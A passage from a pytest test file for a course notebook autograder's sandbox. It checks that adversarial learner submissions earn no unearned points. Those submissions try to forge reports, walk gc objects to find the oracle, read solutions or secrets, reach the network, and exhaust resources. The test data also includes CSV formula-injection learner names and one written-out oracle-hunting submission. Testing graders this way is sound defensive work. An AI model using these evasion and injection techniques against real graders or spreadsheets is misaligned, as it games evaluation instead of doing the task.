            mp.setenv("HOME", str(home))
            mp.setattr(tempfile, "tempdir", str(gtmp))    # where the grader's jobs live
            run = grading.grade(submitted, gradebook, seed=SEED, **settings)
    except BaseException:
        kill_marked(marker)           # a grading that failed leaves no notebook's process
        raise
    finally:
        signal.signal(signal.SIGUSR1, old_usr1)
    seconds = time.perf_counter() - started
    first = gradebook.read_bytes()
    # Anything the notebooks started is gone (the sandbox ends with its first process).
    deadline = time.monotonic() + 10
    while marked(marker) and time.monotonic() < deadline:
        time.sleep(0.2)
    survivors = kill_marked(marker)   # started by this test's notebooks: end them, fail below
    accepted = []
    with contextlib.suppress(BlockingIOError):
        while True:
            conn, peer = listener.accept()
            accepted.append(peer)
            conn.close()
    listener.close()
    yield {"base": base, "subs": subs, "out": out, "gradebook": gradebook, "log": log,
           "feedback": feedback, "cache": cache, "run": run, "first": first,
           "rows": _rows(gradebook), "attempts": _log(log), "probes": probes,
           "before": before, "hashes": hashes, "alice": alice, "precious": precious,
           "token": token, "secret": secret, "marker": marker, "survivors": survivors,
           "accepted": accepted, "usr1": usr1, "submitted": submitted, "settings": settings,
           "seconds": seconds, "gtmp": gtmp}
    sandbox.remove_tree(base)


# --------------------------------------------------------------------------- the gradebook


@pytest.mark.slow
@GROUP
def test_gradebook_has_one_row_per_learner_and_the_assignments_columns(klass):
    rows = klass["rows"]
    header = klass["gradebook"].read_text(encoding="utf-8").splitlines()[0]
    assert header == "learner,softmax,self_attention,late_days,total,notes"
    want = {"alice", "bob", "patcher", "stackwalker", "solsource", "seedhunt", "reader",
            "linker", "fifomaker", "daemon", "'=cmd", "secrets", "network", "signals", "flood",
            "memtree", "procs", "disk", "bigmsg", "mallory", "vic_right", " vic_right",
            "zo\u00e9", "x;'=SUM(1;41)", "forger", "swapper",
            "caf\ufffd", "twin_a", "twin_b", "near_a", "near_b", "ctl_time",
            "linky", "multi", "empty", "fifo"}
    assert set(rows) == want, (set(rows) ^ want)
    assert klass["run"].points == {"softmax": 2.0, "self_attention": 3.0}
    for learner, row in rows.items():
        earned = sum(POINTS[e] for e in POINTS if row[e] not in ("", "0"))
        assert row["total"] == str(earned), (learner, row)
        for e in POINTS:
            assert row[e] in ("", "0", str(POINTS[e])), (learner, row)


#: learner -> (softmax, self_attention) as the gradebook must show them.
EXPECTED = {
    "alice": ("2", "3"), "bob": ("0", ""),
    "ctl_time": ("2", ""), "forger": ("0", ""), "swapper": ("0", "0"),
    "patcher": ("0", ""), "stackwalker": ("0", ""), "solsource": ("0", ""),
    "seedhunt": ("2", ""), "reader": ("0", ""), "linker": ("2", ""), "fifomaker": ("2", ""),
    "daemon": ("2", ""), "'=cmd": ("0", ""), "secrets": ("0", ""), "network": ("0", ""),
    "signals": ("2", ""), "flood": ("2", ""), "memtree": ("2", ""), "procs": ("2", ""),
    "disk": ("2", ""), "bigmsg": ("0", ""), "mallory": ("2", ""), "vic_right": ("2", ""),
    " vic_right": ("2", ""), "zo\u00e9": ("", ""), "x;'=SUM(1;41)": ("2", ""),
    "caf\ufffd": ("2", ""),
    "linky": ("", ""), "multi": ("", ""), "empty": ("", ""), "fifo": ("", ""),
}


@pytest.mark.slow
@GROUP
@pytest.mark.parametrize("learner", sorted(EXPECTED))
def test_each_row_is_graded_as_its_own_code_deserves(klass, learner):
    row = klass["rows"][learner]
    assert (row["softmax"], row["self_attention"]) == EXPECTED[learner], (learner, row)


@pytest.mark.slow
@GROUP
@pytest.mark.parametrize("learner", ["alice", "bob", "ctl_time",
                                     "seedhunt", "reader", "linker", "fifomaker",
                                     "secrets", "network", "vic_right", "mallory",
                                     "solsource", "disk"])
def test_probe_cells_found_nothing_and_honest_notebooks_ran(klass, learner):
    """A probe cell raises only when its attack found something; honest notebooks run clean."""
    notes = klass["rows"][learner]["notes"]
    probes = set(klass["probes"][learner])
    assert not (_raised(notes) & probes), (learner, notes)
    if learner in ("alice", "bob", "ctl_time", "vic_right",
                   "mallory", "seedhunt", "reader", "linker", "fifomaker", "network",
                   "solsource", "secrets"):
        assert notes == f"{learner}.ipynb: ran", notes


@pytest.mark.slow
@GROUP
def test_honest_learners_keep_their_grades(klass):
    rows, log = klass["rows"], klass["attempts"]
    assert rows["alice"]["total"] == "5"
    assert log["bob", "softmax"]["verdict"] == "failed"
    assert log["bob", "softmax"]["mistake"] == "not_stable"
    for ctl in ("ctl_time",):
        assert log[ctl, "softmax"]["verdict"] == "passed", (ctl, log[ctl, "softmax"])
        assert rows[ctl]["total"] == "2"


# --------------------------------------------------------------------------- unearned passes


@pytest.mark.slow
@GROUP
def test_replacing_the_checkers_call_path_does_not_pass_torch_softmax(klass):
    entry = klass["attempts"]["patcher", "softmax"]
    assert entry["verdict"] != "passed", entry
    assert klass["rows"]["patcher"]["softmax"] == "0"


@pytest.mark.slow
@GROUP
def test_the_worker_holds_no_oracle_exercise_or_solution(klass):
    entry = klass["attempts"]["stackwalker", "softmax"]
    assert "FOUND_ORACLE" not in entry["message"], entry["message"]
    assert entry["verdict"] == "failed", entry        # its zeros were graded
    assert entry["mistake"] != "timeout", entry       # it looked everywhere in time
    assert klass["rows"]["stackwalker"]["softmax"] == "0"


@pytest.mark.slow
@GROUP
def test_solution_sources_cannot_be_imported_or_read(klass):
    message = klass["attempts"]["solsource", "softmax"]["message"]
    assert "SOLUTION_READABLE" not in message, message
    assert "NO_SOLUTION" in message and "ModuleNotFoundError" in message, message


@pytest.mark.slow
@GROUP
def test_the_seed_is_nowhere_learner_code_can_read(klass):
    entry = klass["attempts"]["seedhunt", "softmax"]
    assert "FOUND" not in entry["message"], entry["message"]
    assert entry["verdict"] == "passed", entry
    assert klass["run"].seed == SEED
    meta = json.loads(grading.metadata_path(klass["gradebook"]).read_text())
    assert meta["seed"] == SEED


@pytest.mark.slow
@GROUP
def test_a_classmates_notebook_cannot_be_read(klass):
    assert klass["attempts"]["reader", "softmax"]["mistake"] == "not_stable"
    assert _sha(klass["alice"]) == klass["hashes"]["alice"]


@pytest.mark.slow
@GROUP
def test_a_symlinked_submission_is_not_followed(klass):
    row = klass["rows"]["linky"]
    assert "symbolic link" in row["notes"] and "not graded" in row["notes"], row
    assert row["total"] == "0"
    assert not [k for k in klass["attempts"] if k[0] == "linky"]


@pytest.mark.slow
@GROUP
def test_another_chapters_notebook_adds_no_column(klass):
    row = klass["rows"]["multi"]
    assert "not part of this assignment" in row["notes"], row
    assert row["total"] == "0"
    assert list(row) == ["learner", "softmax", "self_attention", "late_days", "total", "notes"]


# --------------------------------------------------------------------------- others' rows, files


@pytest.mark.slow
@GROUP
def test_nothing_outside_the_outputs_was_written_or_linked(klass):
    assert _sha(klass["alice"]) == klass["hashes"]["alice"]
    assert _sha(klass["precious"]) == klass["hashes"]["precious"]
    assert klass["precious"].read_text() == "instructor's file\n"
    assert klass["precious"].stat().st_nlink == 1 and klass["alice"].stat().st_nlink == 1
    after = _snapshot(klass["base"], skip=(klass["out"],))
    assert after == klass["before"], sorted(set(after.items()) ^ set(klass["before"].items()))
    assert not list(klass["gtmp"].iterdir()), "the grader left its jobs' folders"
    for learner in ("linker", "fifomaker", "disk"):
        entry = klass["attempts"][learner, "softmax"]
        assert entry["verdict"] == "passed", (learner, entry)


@pytest.mark.slow
@GROUP
def test_no_fifo_was_made_outside_and_the_outputs_are_files(klass):
    fifos = [p for p in klass["base"].rglob("*") if p.is_fifo()]
    assert fifos == [klass["subs"] / "fifo.ipynb"], fifos
    for path in klass["out"].rglob("*"):
        assert path.is_file() or path.is_dir(), path


@pytest.mark.slow
@GROUP
def test_no_process_started_by_a_notebook_survives(klass):
    assert klass["survivors"] == [], "processes of the notebooks outlived the grading"
    text = klass["gradebook"].read_text(encoding="utf-8")
    assert klass["marker"] not in text
    assert klass["first"] == klass["gradebook"].read_bytes()


@pytest.mark.slow
@GROUP
def test_feedback_names_never_collide(klass):
    fb = klass["feedback"]
    one, other = fb / report.feedback_name("vic_right"), fb / report.feedback_name(" vic_right")
    assert one != other
    # (the header's name is escaped as Markdown: compared as two different headers)
    heads = [p.read_text().splitlines()[0] for p in (one, other)]
    assert all(h.startswith("# Feedback for ") and "right" in h for h in heads), heads
    assert heads[0] != heads[1], heads
    assert "✓ `softmax`" in one.read_text() and "✓ `softmax`" in other.read_text()
    names = [report.feedback_name(x) for x in klass["rows"] if not x.startswith("'")]
    assert len(set(names)) == len(names)


@pytest.mark.slow
@GROUP
def test_identity_comes_from_the_file_name_not_the_metadata(klass):
    """And the chapter from the workbook's metadata as written ("03_softmax.ipynb"), with no
    check cell left in the notebook (issue 52)."""
    assert "dave" not in klass["rows"]
    assert klass["rows"]["mallory"]["softmax"] == "2"
    assert not (klass["feedback"] / "dave.md").exists()
    assert (klass["feedback"] / "mallory.md").exists()


@pytest.mark.slow
@GROUP
def test_no_csv_cell_can_start_a_formula(klass):
    row = klass["rows"]["'=cmd"]
    assert row["softmax"] == "0"
    for path in (klass["gradebook"], klass["log"]):
        with path.open(newline="", encoding="utf-8") as f:
            for line in csv.reader(f):
                for cell in line:
                    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (path.name, cell)
    assert "=HYPERLINK" in klass["attempts"]["'=cmd", "softmax"]["message"]
    # Read as a ";"-separated file (a spreadsheet in many locales), no cell starts a formula
    # either: "x;=SUM(1;41)" is quoted and its "=" escaped (issue 52).
    for path in (klass["gradebook"], klass["log"]):
        with path.open(newline="", encoding="utf-8") as f:
            for line in csv.reader(f, delimiter=";"):
                for cell in line:
                    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (path.name, cell)
    assert '"x;\'=SUM(1;41)"' in klass["gradebook"].read_text(encoding="utf-8")


# --------------------------------------------------------------------------- issue 52


@pytest.mark.slow
@GROUP
def test_forged_reports_and_swapped_code_get_no_points(klass):
    """Route 1 (reports forged with os.write, then os._exit(0)) and route 2 (the worker's
    functions given the learner's code) end as tampering in their own row only."""
    log = klass["attempts"]
    forged = log["forger", "softmax"]
    assert forged["verdict"] == "failed" and forged["mistake"] == "tampering", forged
    for exercise in ("softmax", "self_attention"):
        swapped = log["swapper", exercise]
        assert swapped["verdict"] == "failed" and swapped["mistake"] == "tampering", swapped
        # refused at the first step: the code relabelled as the checker's file
        assert "code made to claim the file" in swapped["message"], swapped
    assert klass["rows"]["forger"]["total"] == klass["rows"]["swapper"]["total"] == "0"


@pytest.mark.slow
@GROUP
def test_names_that_meet_never_merge(klass):
    """" vic_right" is not vic_right (both keep their own row and points); two names that
    normalise to one id are both refused, each naming the other (issue 52)."""
    rows = klass["rows"]
    assert rows["vic_right"]["total"] == rows[" vic_right"]["total"] == "2"
    assert rows["vic_right"]["notes"] == "vic_right.ipynb: ran", rows["vic_right"]
    notes = rows["zo\u00e9"]["notes"]
    assert notes.count("none of them is graded") == 2, notes
    assert "zo\u00e9.ipynb" in notes and "zoe\u0301.ipynb" in notes, notes
    assert rows["zo\u00e9"]["total"] == "0"


@pytest.mark.slow
@GROUP
def test_a_folder_chain_deeper_than_the_recursion_limit_stops_nothing(klass):
    """linker's notebook leaves 1100 nested folders in its scratch folder and in /tmp: its row
    is graded as usual, the class has its gradebook, and the jobs' folders are gone."""
    assert klass["rows"]["linker"]["notes"] == "linker.ipynb: ran", klass["rows"]["linker"]
    assert klass["rows"]["linker"]["softmax"] == "2"
    assert not list(klass["gtmp"].iterdir()), "the grader left its jobs' folders"


# --------------------------------------------------------------------------- what it may read


def _outputs_text(klass) -> str:
    parts = [klass["gradebook"].read_text(encoding="utf-8"), klass["log"].read_text("utf-8")]
    parts += [p.read_text(encoding="utf-8") for p in sorted(klass["feedback"].iterdir())]
    parts.append(klass["run"].summary)
    return "\n".join(parts)


@pytest.mark.slow
@GROUP
def test_no_secret_of_the_grader_reaches_the_outputs(klass):
    text = _outputs_text(klass)
    assert klass["token"] not in text
    assert klass["secret"] not in text
    message = klass["attempts"]["secrets", "softmax"]["message"]
    assert "LEAK []" in message, message        # it ran, and found nothing


@pytest.mark.slow
@GROUP
def test_the_network_is_unreachable(klass):
    assert klass["accepted"] == []
    entry = klass["attempts"]["network", "softmax"]
    assert "CONNECTED" not in entry["message"] and entry["verdict"] != "passed", entry


# --------------------------------------------------------------------------- resources


@pytest.mark.slow
@GROUP
def test_signals_reach_nothing_outside_the_sandbox(klass):
    assert klass["usr1"] == []
    assert klass["rows"]["signals"]["softmax"] == "2"


@pytest.mark.slow
@GROUP
def test_an_output_flood_is_cut_and_the_row_graded(klass):
    notes = klass["rows"]["flood"]["notes"]
    assert "output beyond 1 MiB was not kept" in notes, notes


@pytest.mark.slow
@GROUP
def test_memory_is_capped_for_the_whole_process_tree(klass):
    notes = klass["rows"]["memtree"]["notes"]
    assert "sandbox was ended" in notes and "GiB" in notes and "limit 2 GiB" in notes, notes


@pytest.mark.slow
@GROUP
def test_the_number_of_processes_is_capped(klass):
    notes = klass["rows"]["procs"]["notes"]
    assert "sandbox was ended" in notes and f"limit {PROCESSES})" in notes, notes


@pytest.mark.slow
@GROUP
def test_disk_writes_are_capped(klass):
    notes = klass["rows"]["disk"]["notes"]
    assert not (_raised(notes) & set(klass["probes"]["disk"])), notes
    assert notes == "disk.ipynb: ran" or f"limit {DISK // 1024 ** 2} MiB" in notes, notes
    message = klass["attempts"]["disk", "softmax"]["message"]
    assert "DISK_CAP_EXCEEDED" not in message, message


@pytest.mark.slow
@GROUP
def test_a_huge_message_is_capped(klass):
    message = klass["attempts"]["bigmsg", "softmax"]["message"]
    assert 0 < len(message) < 10_000, len(message)
    assert len(klass["rows"]["bigmsg"]["notes"]) < 10_000
    size = (klass["feedback"] / report.feedback_name("bigmsg")).stat().st_size
    assert size < 20_000, size


@pytest.mark.slow
@GROUP
def test_odd_submissions_affect_only_their_own_row(klass):
    rows = klass["rows"]
    assert "not a notebook" in rows["empty"]["notes"], rows["empty"]
    assert "not a regular file" in rows["fifo"]["notes"], rows["fifo"]
    assert rows["caf\ufffd"]["notes"] == "caf\ufffd.ipynb: ran", rows["caf\ufffd"]
    assert (klass["feedback"] / report.feedback_name("caf\ufffd")).exists()


@pytest.mark.slow
@GROUP
def test_byte_identical_notebooks_get_identical_rows(klass):
    a, b = klass["rows"]["twin_a"], klass["rows"]["twin_b"]
    assert {k: v for k, v in a.items() if k not in ("learner", "notes")} == \
        {k: v for k, v in b.items() if k not in ("learner", "notes")}
    assert a["notes"].replace("twin_a", "twin_b") == b["notes"]
    la, lb = (klass["attempts"][t, "self_attention"] for t in ("twin_a", "twin_b"))
    assert "DERIVED" in la["message"], la
    assert la["message"] == lb["message"]
    assert la["source"] == lb["source"]


# --------------------------------------------------------------------------- runs again


def _again(klass, out: Path, paths=None, **kw) -> grading.GradeRun:
    settings = {**klass["settings"], **kw}
    with _hang_guard(HANG_LIMIT):
        return grading.grade(paths or klass["submitted"], out, **settings)


@pytest.mark.slow
@GROUP
def test_a_second_run_reuses_the_seed_and_writes_the_same_gradebook(klass):
    run = _again(klass, klass["gradebook"], seed=None, new_seed=False)
    assert run.seed == SEED
    assert run.graded == 0, run.cache_errors
    assert klass["gradebook"].read_bytes() == klass["first"]


# --------------------------------------------------------------------------- the check worker


@pytest.mark.slow
def test_the_sandboxed_check_worker_sees_no_exercises_and_no_oracle(tmp_path):
    """The worker of one check, started as grading starts it: no ``exercises`` module can be
    imported, and no object that holds an oracle, a solution or the mistakes is there."""
    if REASON is not None:
        pytest.fail(f"the grading sandbox cannot run here: {REASON}")
    from course_lib.toolkit.checking import FileSource, get_exercise, run_check
    from course_lib.toolkit.grading import job as job_module

    course = sandbox.learner_copy(tmp_path)
    folder = tmp_path / "check0"
    sandbox.prepare_scratch(folder)
    (folder / "submission.py").write_text("""import gc
import importlib
import os
import sys

import course_lib.chapters
import course_lib.chapters.ch03_softmax


def _objects():
    if not WALK_GC:
        return []
    gc.unfreeze()
    return gc.get_objects()


def softmax(x, dim=-1):
    found = [m for m in sys.modules if m.endswith('exercises') and m != 'course_lib.exercises']
    chapters = course_lib.chapters.__path__[0]
    for name in sorted(os.listdir(chapters)):
        if os.path.exists(os.path.join(chapters, name, 'exercises.py')):
            found.append(name)
    try:
        importlib.import_module('course_lib.chapters.ch03_softmax.exercises')
        found.append('ch03_softmax.exercises')
    except ImportError:
        pass
    for o in _objects():
        t = type(o).__name__
        if t in ('Exercise', 'Mistake', '_Seeded'):
            found.append(t)
        elif t == 'Case' and set(vars(o)) - {'name', 'args', 'note', 'max_square'}:
            found.append(sorted(vars(o)))
        elif str(getattr(type(o), '__module__', '')).startswith('course_lib'):
            try:
                if callable(getattr(o, 'oracle', None)) or callable(getattr(o, 'solution', None)):
                    found.append(t)
            except Exception:
                pass
    if found:
        raise RuntimeError(f'FOUND {sorted(map(str, found))[:20]!r}')
    m = x.amax(dim=dim, keepdim=True)
    e = (x - m).exp()
    return e / e.sum(dim=dim, keepdim=True)
""")
    job = job_module.Job(notebook="w.ipynb", learner="w", chapter=CHAPTER,
                         exercises=["softmax"], seed=1, workdir=str(tmp_path),
                         course_copy=str(course))
    text = (folder / "submission.py").read_text()
    results = {}
    for walk in (False, True):
        (folder / "submission.py").write_text(f"WALK_GC = {walk}\n" + text)
        results[walk] = run_check(get_exercise("softmax"),
                                  FileSource(str(folder / "submission.py"), "softmax"),
                                  seed=1, timeout=60, launcher=job_module._launcher(job, folder))
    assert "FOUND" not in results[False].message, results[False].message
    assert results[False].passed, results[False].message
    # The walk over gc's objects itself is refused since issue 52 (it leads to the worker's
    # state): nothing found, no points.
    walked = results[True]
    assert walked.mistake == "tampering" and "gc.get_objects" in walked.message, walked.message
    assert not list(course.rglob("exercises.py"))


@pytest.mark.slow
@GROUP
def test_what_a_function_can_read_of_its_sandbox_is_the_same_for_every_notebook(klass):
    """/proc shows the sandbox's own processes, mounts and environment: nothing that names the
    grader's folders (a job's number or digest), its temporary folder or its environment."""
    a, b = (klass["attempts"][t, "self_attention"]["message"] for t in ("near_a", "near_b"))
    assert "SEEN" in a and "/grading" in a, a
    assert "course-lib-grading" not in a and str(klass["base"]) not in a, a
    assert a == b, "the two sandboxes differ in what learner code can read"
    assert klass["rows"]["near_a"]["softmax"] == klass["rows"]["near_b"]["softmax"] == "2"
